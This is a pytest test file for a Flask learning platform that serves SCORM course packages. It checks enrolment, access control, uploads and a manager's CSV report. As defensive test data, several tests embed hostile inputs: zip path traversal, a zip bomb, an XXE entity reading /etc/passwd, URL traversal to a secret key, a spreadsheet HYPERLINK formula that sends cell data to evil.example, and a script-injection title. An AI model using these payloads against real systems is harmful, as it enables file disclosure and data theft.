"""Catalog, enrolment, My learning, uploads and the manager's report, through the pages."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from flask import Flask

from lms import db
from lms.packages.importer import import_package, package_root
from tests.fixtures.lms_learning import Learner
from tests.fixtures.scorm_packages import (
    SCORM12_MANIFEST,
    SCORM2004_MANIFEST,
    scorm12_files,
    scorm2004_files,
    write_zip,
)


def test_one_catalog_entry_lists_every_language(
    lms: Flask, courses: dict[str, int], learner: Learner
) -> None:
    page = lms.test_client().get("/").get_data(as_text=True)
    assert page.count('class="card"') == 1
    assert "Water safety" in page and "Languages: en, fr" in page
    assert "Log in to enrol" in page
    assert 'value="fr"' in learner.client.get("/").get_data(as_text=True)


def test_enrol_then_my_learning_shows_the_course_to_start(
    courses: dict[str, int], learner: Learner
) -> None:
    assert "not enrolled in any course" in learner.client.get("/my-learning").get_data(as_text=True)
    assert learner.enrol(courses["course"]).status_code == 302
    page = learner.client.get("/my-learning").get_data(as_text=True)
    assert 'class="status">not started<' in page and ">Start<" in page
    assert learner.post("/courses/999/enrol").status_code == 404


def test_playing_without_enrolment_goes_back_to_the_catalog(
    courses: dict[str, int], learner: Learner
) -> None:
    answer = learner.client.get(f"/courses/{courses['course']}/play")
    assert answer.status_code == 302 and answer.location == "/"


def test_package_files_are_served_to_enrolled_learners_and_managers_only(
    lms: Flask, courses: dict[str, int], learner: Learner, make_learner
) -> None:  # type: ignore[no-untyped-def]
    path = f"/content/{courses['scorm2004']}/quiz.html"
    refused = learner.client.get(path)
    assert refused.status_code == 403
    assert "Enrol in this course" in refused.get_data(as_text=True)
    with make_learner("m@example.org", role="manager").client.get(path) as served:
        assert served.status_code == 200
    learner.enrol(courses["course"])
    with learner.client.get(path) as served:
        assert served.status_code == 200
        assert b"<h1>quiz</h1>" in served.data
    assert lms.test_client().get(path).status_code == 302
    assert (
        learner.client.get(f"/content/{courses['scorm2004']}/../../secret_key").status_code == 404
    )


def test_the_player_page_offers_a_new_window_mode(
    courses: dict[str, int], learner: Learner
) -> None:
    learner.enrol(courses["course"])
    framed = learner.client.get(f"/courses/{courses['course']}/play").get_data(as_text=True)
    assert '<iframe id="sco-frame"' in framed and "window=1" in framed
    assert 'id="fullscreen"' in framed
    windowed = learner.client.get(f"/courses/{courses['course']}/play?window=1").get_data(
        as_text=True
    )
    assert 'id="open-window"' in windowed and "<iframe" not in windowed


def test_the_player_heading_names_the_lesson_only_when_it_differs_from_the_course(
    lms: Flask, learner: Learner, tmp_path: Path
) -> None:
    manifest = SCORM12_MANIFEST.replace(
        "<title>Leçon 1</title>", "<title>Sécurité de l'eau</title>"
    )
    archive = write_zip(tmp_path / "one-sco.zip", scorm12_files(manifest))
    with lms.app_context():
        course_id = import_package(db.session(), lms.config["DATA_DIR"], archive).course_id
    learner.enrol(course_id)
    page = learner.client.get(f"/courses/{course_id}/play").get_data(as_text=True)
    heading = re.search(r'<h1 class="player-title">(.*?)</h1>', page, re.S).group(1)
    assert heading.strip() == "Sécurité de l&#39;eau"


def test_an_administrator_uploads_a_package(lms: Flask, make_learner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    admin: Learner = make_learner("admin@example.org", role="administrator")
    archive = write_zip(tmp_path / "course.zip", scorm2004_files())
    with archive.open("rb") as handle:
        answer = admin.client.post(
            "/manage/upload",
            data={"csrf_token": admin.csrf(), "package": (handle, "course.zip")},
            headers={"X-Requested-With": "XMLHttpRequest"},
        )
    assert answer.status_code == 200, answer.json
    assert "3 launchable items)" in answer.json["message"]
    assert "Water safety" in admin.client.get("/manage/").get_data(as_text=True)


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({"../escape.txt": "x", **scorm2004_files()}, "points outside the package"),
        ({**scorm2004_files(), "zeros.bin": b"\0" * 5_000_000}, "zip bomb"),
        (
            {
                **scorm2004_files(
                    SCORM2004_MANIFEST.replace(
                        '<?xml version="1.0" encoding="UTF-8"?>',
                        '<?xml version="1.0"?><!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
                    ).replace("<title>Water safety</title>", "<title>&xxe;</title>")
                )
            },
            "DOCTYPE or entity declaration is not allowed",
        ),
    ],
)
def test_unsafe_uploads_are_refused_with_a_message_and_nothing_stored(
    lms: Flask,
    make_learner,
    tmp_path: Path,
    files: dict[str, str | bytes],  # type: ignore[no-untyped-def]
    message: str,
) -> None:
    admin: Learner = make_learner("admin@example.org", role="administrator")
    archive = write_zip(tmp_path / "bad.zip", files)
    with archive.open("rb") as handle:
        answer = admin.client.post(
            "/manage/upload", data={"csrf_token": admin.csrf(), "package": (handle, "bad.zip")}
        )
    assert answer.status_code == 400
    assert message in answer.get_data(as_text=True)
    root = package_root(lms.config["DATA_DIR"])
    assert not root.exists() or list(root.iterdir()) == []
    assert "No course has been imported yet" in admin.client.get("/").get_data(as_text=True)
    assert not (tmp_path.parent / "escape.txt").exists()


def test_an_upload_without_a_csrf_token_is_refused(
    lms: Flask,
    make_learner,  # type: ignore[no-untyped-def]
    tmp_path: Path,
) -> None:
    admin: Learner = make_learner("admin@example.org", role="administrator")
    archive = write_zip(tmp_path / "course.zip", scorm2004_files())
    with archive.open("rb") as handle:
        answer = admin.client.post("/manage/upload", data={"package": (handle, "c.zip")})
    assert answer.status_code == 400
    assert "No course has been imported yet" in admin.client.get("/").get_data(as_text=True)


def test_the_report_lists_learners_filters_and_exports_csv(
    courses: dict[str, int], make_learner
) -> None:  # type: ignore[no-untyped-def]
    course = courses["course"]
    kenyan: Learner = make_learner("wanjiru@example.org", country="KE")
    french: Learner = make_learner("louis@example.org", country="FR", language="fr")
    kenyan.enrol(course, language="en")
    french.enrol(course, language="fr")
    quiz = kenyan.launch(course, "quiz")
    quiz.send(
        ["Initialize", ""],
        ["SetValue", "cmi.score.scaled", "0.9"],
        ["SetValue", "cmi.session_time", "PT10M"],
        ["Terminate", ""],
    )
    manager: Learner = make_learner("boss@example.org", role="manager")
    page = manager.client.get(f"/manage/courses/{course}/report").get_data(as_text=True)
    assert "Wanjiru" in page and "Louis" in page
    filtered = manager.client.get(f"/manage/courses/{course}/report?country=FR").get_data(
        as_text=True
    )
    assert "Louis" in filtered and "Wanjiru" not in filtered
    exported = manager.client.get(f"/manage/courses/{course}/report?language=en&format=csv")
    assert exported.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    assert [row["email"] for row in rows] == ["wanjiru@example.org"]
    assert rows[0]["score"] == "0.9000" and rows[0]["attempts"] == "1"
    assert rows[0]["time_spent_seconds"] == "600" and rows[0]["country"] == "KE"
    assert rows[0]["status"] == "in progress"
    # The same UTC form as the LRS's timestamps, whatever the microseconds.
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", rows[0]["last_access"])


def test_the_csv_report_keeps_formula_like_names_as_text(
    courses: dict[str, int], make_learner
) -> None:  # type: ignore[no-untyped-def]
    course = courses["course"]
    mallory: Learner = make_learner("mallory@example.org")
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    saved = mallory.post(
        "/account/profile", name=hostile, language="en", country="KE", organisation="@SUM(1+1)"
    )
    assert saved.status_code == 200
    mallory.enrol(course)
    manager: Learner = make_learner("boss@example.org", role="manager")
    exported = manager.client.get(f"/manage/courses/{course}/report?format=csv")
    [row] = csv.DictReader(io.StringIO(exported.get_data(as_text=True)))
    assert row["name"] == "'" + hostile
    assert row["organisation"] == "'@SUM(1+1)"
    assert row["email"] == "mallory@example.org"


def test_a_new_package_version_keeps_learners_records(
    lms: Flask,
    courses: dict[str, int],
    learner: Learner,
    make_learner,  # type: ignore[no-untyped-def]
    tmp_path: Path,
) -> None:
    learner.enrol(courses["course"])
    first = learner.launch(courses["course"], "intro")
    first.send(
        ["Initialize", ""], ["SetValue", "cmi.completion_status", "completed"], ["Terminate", ""]
    )
    admin: Learner = make_learner("admin@example.org", role="administrator")
    newer = write_zip(
        tmp_path / "v3.zip",
        scorm2004_files(
            SCORM2004_MANIFEST.replace(
                "<lom:string>2.0</lom:string>", "<lom:string>3.0</lom:string>"
            )
        ),
    )
    with newer.open("rb") as handle:
        assert (
            admin.client.post(
                "/manage/upload", data={"csrf_token": admin.csrf(), "package": (handle, "v3.zip")}
            ).status_code
            == 302
        )
    page = learner.client.get("/my-learning").get_data(as_text=True)
    assert "33%" in page  # intro still counts as completed in the new version
    rivers = learner.launch(courses["course"], "rivers")
    assert f"/content/{courses['scorm2004'] + 1}/rivers.html" in rivers.page


def test_a_package_title_cannot_inject_script_into_the_player(
    lms: Flask,
    learner: Learner,
    tmp_path: Path,
) -> None:
    from lms import db
    from lms.packages.importer import import_package

    hostile = SCORM2004_MANIFEST.replace(
        "river-data", "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    )
    with lms.app_context():
        course = import_package(
            db.session(),
            lms.config["DATA_DIR"],
            write_zip(tmp_path / "h.zip", scorm2004_files(hostile)),
        ).course_id
    learner.enrol(course)
    launch = learner.launch(course, "rivers")
    assert "<script>alert(1)" not in launch.page
    assert launch.values["cmi.launch_data"] == "</script><script>alert(1)</script>"


def test_launching_an_asset_completes_it(lms: Flask, learner: Learner, tmp_path: Path) -> None:
    from lms import db
    from lms.packages.importer import import_package

    with_asset = SCORM2004_MANIFEST.replace(
        'adlcp:scormType="sco" href="intro.html"', 'adlcp:scormType="asset" href="intro.html"'
    )
    with lms.app_context():
        course = import_package(
            db.session(),
            lms.config["DATA_DIR"],
            write_zip(tmp_path / "a.zip", scorm2004_files(with_asset)),
        ).course_id
    learner.enrol(course)
    learner.launch(course, "intro")
    page = learner.client.get("/my-learning").get_data(as_text=True)
    assert "33%" in page and 'class="status">in progress<' in page
